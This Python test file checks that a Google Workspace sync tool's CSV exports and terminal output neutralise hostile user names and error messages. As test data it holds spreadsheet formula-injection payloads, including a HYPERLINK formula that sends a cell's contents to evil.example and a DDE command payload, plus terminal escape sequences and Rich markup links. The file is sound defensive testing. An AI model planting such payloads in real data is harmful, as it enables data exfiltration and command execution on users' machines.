"""Names, keys and messages come from Google and the target: what reaches a spreadsheet or a terminal.

A hostile Google display name or SCIM error message must not run as a formula when the export is
opened, nor move the cursor, recolour, clear the screen or plant a hyperlink in a terminal.
"""

import csv
import io

import pytest
from rich.console import Console

from gwsync.api.report import Action, ItemType, ReportItem, Result
from gwsync.cli.output import plain, printable
from gwsync.cli.reports import item_table, write_csv


def user(key: str, details: str = "", *, source: str = "104", target: str = "t-1") -> ReportItem:
    return ReportItem(
        type=ItemType.USER,
        key=key,
        source_id=source,
        target_id=target,
        action=Action.UPDATE,
        result=Result.FAILED,
        data_changed=True,
        changes=[],
        details=details,
    )


def exported(items: list[ReportItem]) -> str:
    buffer = io.StringIO(newline="")
    write_csv(items, buffer)
    return buffer.getvalue()


HEADER = "type,key,action,result,dataChanged,changes,details,sourceId,targetId\r\n"


def test_cells_that_would_run_as_formulas_are_exported_as_text() -> None:
    items = [
        user('=HYPERLINK("https://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", source="-2+3"),
        user("@SUM(A1:A9)", "\tTAB first", target="=1+1"),
        user("-jane@acme.example", "\r\nCR first"),
    ]
    assert exported(items) == (
        HEADER
        + 'User,"\'=HYPERLINK(""https://evil.example/?""&A1,""Click"")",Update,Failed,true,,'
        + "'+cmd|' /C calc'!A0,'-2+3,t-1\r\n"
        + "User,'@SUM(A1:A9),Update,Failed,true,,'\tTAB first,104,'=1+1\r\n"
        + "User,'-jane@acme.example,Update,Failed,true,,\"'\r\nCR first\",104,t-1\r\n"
    )


def test_a_neutralised_cell_reads_back_as_the_value_with_one_leading_quote() -> None:
    items = [user("=1+1", "@cmd")]
    [row] = list(csv.DictReader(io.StringIO(exported(items), newline="")))
    assert (row["key"], row["details"]) == ("'=1+1", "'@cmd")


def test_ordinary_values_are_exported_unchanged() -> None:
    items = [user("jane@acme.example", "Renée\r\nO'Brien; 409 uniqueness = userName", source="1-2")]
    [row] = list(csv.DictReader(io.StringIO(exported(items), newline="")))
    assert row["key"] == "jane@acme.example"
    assert row["details"] == "Renée\r\nO'Brien; 409 uniqueness = userName"
    assert row["sourceId"] == "1-2"


def test_terminal_escape_sequences_are_exported_visible_not_raw() -> None:
    items = [user("\x1b[2Jowned@acme.example", "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\\x07")]
    text = exported(items)
    assert "\x1b" not in text and "\x07" not in text
    assert "\\x1b[2Jowned@acme.example" in text
    assert "\\x1b]8;;https://evil.example/\\x1b\\click\\x1b]8;;\\x1b\\\\x07" in text


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("\x1b[31mred\x1b[0m", "\\x1b[31mred\\x1b[0m"),
        (
            "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
            "\\x1b]8;;https://evil.example\\x1b\\link\\x1b]8;;\\x1b\\",
        ),
        ("jane\rroot", "jane\\rroot"),
        ("ding\x07", "ding\\x07"),
        ("back\x08\x08", "back\\x08\\x08"),
        ("one\ntwo", "one\\ntwo"),
        ("\x9b31m8-bit CSI", "\\x9b31m8-bit CSI"),
        ("del\x7f", "del\\x7f"),
        ("\u202eelpmaxe.live@nhoj", "\\u202eelpmaxe.live@nhoj"),
        ("tab\tin a name", "tab\\tin a name"),
        ("line\u2028separator", "line\\u2028separator"),
        ("paragraph\u2029separator", "paragraph\\u2029separator"),
        ("zero\u200bwidth\ufeffBOM", "zero\\u200bwidth\\ufeffBOM"),
        ("soft\xadhyphen", "soft\\xadhyphen"),
        ("tag\U000e0041s", "tag\\U000e0041s"),
        ("lone\ud800surrogate", "lone\\ud800surrogate"),
        ("Zoë Ångström, 李 小龍 😀\u00a0nbsp", "Zoë Ångström, 李 小龍 😀\u00a0nbsp"),
    ],
    ids=[
        "CSI",
        "OSC 8",
        "CR",
        "BEL",
        "BS",
        "LF",
        "C1",
        "DEL",
        "bidi",
        "tab",
        "Zl",
        "Zp",
        "zero-width",
        "soft hyphen",
        "tag",
        "surrogate",
        "unicode",
    ],
)
def test_a_name_is_shown_with_its_control_characters_escaped(raw: str, shown: str) -> None:
    assert printable(raw) == shown


def test_a_message_keeps_its_line_ends_but_not_a_lone_carriage_return() -> None:
    assert printable("first\r\nsecond\nthird\rfourth", multiline=True) == "first\r\nsecond\nthird\\rfourth"


def test_a_message_keeps_its_tabs_but_not_unicode_separators() -> None:
    assert printable("a\tb\u2028c\u2029d\u0085e", multiline=True) == "a\tb\\u2028c\\u2029d\\x85e"


def render(renderable: object) -> str:
    console = Console(file=io.StringIO(), width=200, color_system=None, highlight=False)
    console.print(renderable)
    output = console.file.getvalue()  # type: ignore[attr-defined]
    assert isinstance(output, str)
    return output


def test_rich_markup_in_a_name_is_shown_literally() -> None:
    assert render(plain("[bold]x[/bold] [link=https://evil.example]y[/link]")) == (
        "[bold]x[/bold] [link=https://evil.example]y[/link]\n"
    )


def test_the_item_table_shows_hostile_keys_and_details_escaped() -> None:
    table = item_table(
        [user("[link=https://evil.example]jane[/link]\x1b[8m", "\x1b]8;;https://e\x1b\\x\x07")]
    )
    output = render(table)
    assert "\x1b" not in output and "\x07" not in output
    assert "[link=https://evil.example]jane[/link]\\x1b[8m" in output
    assert "\\x1b]8;;https://e\\x1b\\x\\x07" in output
